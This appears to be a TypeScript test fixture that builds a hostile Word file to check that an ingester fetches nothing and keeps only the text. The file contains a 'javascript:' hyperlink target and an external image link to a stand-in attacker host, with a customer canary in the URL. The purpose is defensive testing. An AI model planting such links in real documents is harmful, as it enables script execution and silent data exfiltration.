/**
 * OUT-08's Word file, built by hand so its hostile parts are exact: a hyperlink whose target is
 * `javascript:`, and a picture that links (not embeds) an image on the attacker's host with a
 * canary in its address. Reading it must fetch nothing and keep only the words.
 */
import { strToU8, zipSync } from 'fflate';
import { CANARIES, PWN_FLAG } from '../fakes/evil-payloads.js';

const RELATIONSHIPS = 'http://schemas.openxmlformats.org/package/2006/relationships';
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** The address of the linked image. */
export const DOCX_IMAGE_URL = `https://attacker.test/docx.png?d=${CANARIES.customer}`;

/** The file to drop. */
export function hostileDocx(): { name: string; bytes: Uint8Array } {
  const picture =
    '<w:r><w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/><wp:docPr id="1" name="logo"/>' +
    '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic>' +
    '<pic:nvPicPr><pic:cNvPr id="1" name="logo"/><pic:cNvPicPr/></pic:nvPicPr>' +
    '<pic:blipFill><a:blip r:link="rId11"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic>' +
    '</wp:inline></w:drawing></w:r>';
  const document =
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"' +
    ` xmlns:r="${OFFICE}"` +
    ' xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"' +
    ' xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"' +
    ' xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><w:body>' +
    '<w:p><w:r><w:t>The KT-100 travel case weighs 400 grams. </w:t></w:r>' +
    '<w:hyperlink r:id="rId10"><w:r><w:t>Open the travel case guide</w:t></w:r></w:hyperlink></w:p>' +
    `<w:p>${picture}</w:p></w:body></w:document>`;
  const files = {
    '[Content_Types].xml':
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
      '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
      '<Default Extension="xml" ContentType="application/xml"/>' +
      '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>' +
      '</Types>',
    '_rels/.rels':
      `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="${RELATIONSHIPS}">` +
      `<Relationship Id="rId1" Type="${OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>`,
    'word/_rels/document.xml.rels':
      `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="${RELATIONSHIPS}">` +
      `<Relationship Id="rId10" Type="${OFFICE}/hyperlink" Target="javascript:window.${PWN_FLAG}=1" TargetMode="External"/>` +
      `<Relationship Id="rId11" Type="${OFFICE}/image" Target="${DOCX_IMAGE_URL.replace(/&/g, '&amp;')}" TargetMode="External"/>` +
      '</Relationships>',
    'word/document.xml': document,
  };
  return {
    name: 'travel-case.docx',
    bytes: zipSync(Object.fromEntries(Object.entries(files).map(([path, text]) => [path, strToU8(text)]))),
  };
}
